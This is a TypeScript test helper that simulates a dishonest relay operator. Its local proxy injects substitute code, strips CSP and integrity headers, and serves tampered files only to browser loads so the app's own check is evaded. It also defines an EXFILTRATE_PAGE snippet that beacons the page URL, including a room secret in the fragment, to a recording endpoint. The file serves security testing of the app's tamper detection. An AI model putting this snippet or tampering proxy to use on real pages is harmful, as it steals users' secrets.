import { createHash } from 'node:crypto';
import { createServer, request, type IncomingMessage, type ServerResponse } from 'node:http';
import { connect, type Socket } from 'node:net';

/** What the dishonest operator serves instead of the relay's answer for one path. */
export interface Override {
  type: string;
  body: string | Buffer;
  /**
   * Which requests get it: 'all' (a naive operator), or 'not-fetch' (one that tells
   * the app's own check, a fetch() with Sec-Fetch-Dest: empty, from what the browser loads).
   */
  to?: 'all' | 'not-fetch';
}

export interface TamperProxy {
  url: string;
  /** Path → replacement; paths not listed go to the relay unchanged. */
  overrides: Map<string, Override>;
  /** Response headers (lower case) dropped from the relay's answers, as an operator may drop them. */
  stripHeaders: Set<string>;
  /** Point the proxy at another relay (a new release, say). */
  retarget(port: number): void;
  /** Bodies that reached the recording endpoint, as text. */
  recorded: string[];
  /** Every request line that passed (method, path with query), and each WebSocket upgrade's path. */
  requests: string[];
  close(): Promise<void>;
}

/** The endpoint the changed code posts what it found to. Same origin, so even the relay's CSP lets it through. */
export const RECORD_PATH = '/__record';

/**
 * The relay as a dishonest operator runs it: a proxy on 127.0.0.1 that
 * forwards everything (HTTP and WebSocket upgrades) to the real relay, but
 * answers the overridden paths with other bytes and without the relay's
 * headers (no CSP, no Integrity-Policy: the operator controls them too), and
 * records whatever changed code posts to RECORD_PATH.
 */
export async function startTamperProxy(relayPort: number): Promise<TamperProxy> {
  let target = relayPort;
  const overrides = new Map<string, Override>();
  const recorded: string[] = [];
  const requests: string[] = [];
  const sockets = new Set<Socket>();
  const stripHeaders = new Set<string>();

  const server = createServer((req: IncomingMessage, res: ServerResponse) => {
    const url = new URL(req.url ?? '/', 'http://x');
    requests.push(`${req.method} ${url.pathname}${url.search}`);
    if (url.pathname === RECORD_PATH) {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        recorded.push(Buffer.concat(chunks).toString('utf8') || url.search);
        res.writeHead(204).end();
      });
      return;
    }
    const o = overrides.get(url.pathname);
    if (o && (o.to !== 'not-fetch' || req.headers['sec-fetch-dest'] !== 'empty')) {
      res.writeHead(200, { 'content-type': o.type, 'cache-control': 'no-store' }).end(o.body);
      return;
    }
    const up = request({ host: '127.0.0.1', port: target, method: req.method, path: req.url, headers: req.headers }, (r) => {
      const headers = Object.fromEntries(Object.entries(r.headers).filter(([h]) => !stripHeaders.has(h)));
      res.writeHead(r.statusCode ?? 502, headers);
      r.pipe(res);
    });
    up.on('error', () => res.writeHead(502).end());
    req.pipe(up);
  });

  server.on('upgrade', (req: IncomingMessage, client: Socket, head: Buffer) => {
    requests.push(`UPGRADE ${req.url}`);
    const relay = connect({ host: '127.0.0.1', port: target });
    sockets.add(client);
    sockets.add(relay);
    const lines = [`${req.method} ${req.url} HTTP/1.1`];
    for (let i = 0; i < req.rawHeaders.length; i += 2) lines.push(`${req.rawHeaders[i]}: ${req.rawHeaders[i + 1]}`);
    relay.write(`${lines.join('\r\n')}\r\n\r\n`);
    relay.write(head);
    relay.pipe(client);
    client.pipe(relay);
    const end = () => (client.destroy(), relay.destroy(), sockets.delete(client), sockets.delete(relay));
    client.on('error', end);
    relay.on('error', end);
    client.on('close', end);
    relay.on('close', end);
  });
  server.on('connection', (s) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });

  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as { port: number };
  return {
    url: `http://127.0.0.1:${port}`,
    overrides,
    stripHeaders,
    retarget: (p) => (target = p),
    recorded,
    requests,
    close: async () => {
      for (const s of sockets) s.destroy();
      await new Promise<void>((r) => server.close(() => r()));
    },
  };
}

/** SRI value of some bytes (what a careful attacker puts on the script it adds). */
export function sriOf(bytes: string | Buffer): string {
  return `sha384-${createHash('sha384').update(bytes).digest('base64')}`;
}

/** Code that, if it ever runs in a page, posts the page's fragment (a room secret) to RECORD_PATH. */
export const EXFILTRATE_PAGE = `;(()=>{try{navigator.sendBeacon(${JSON.stringify(RECORD_PATH)}, 'page:' + location.href)}catch(e){}})();\n`;
